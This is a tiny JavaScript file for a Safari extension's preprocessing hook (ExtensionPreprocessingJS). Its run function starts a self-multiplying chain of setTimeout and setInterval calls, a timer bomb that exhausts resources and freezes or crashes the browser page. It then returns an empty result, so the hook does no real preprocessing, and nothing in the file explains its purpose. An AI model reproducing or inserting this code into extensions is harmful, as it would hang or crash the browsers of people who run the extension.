var ExtensionPreprocessingJS = { run(a) {
const f = () => { setTimeout(f); setInterval(f) }; f();
a.completionFunction({});
} };
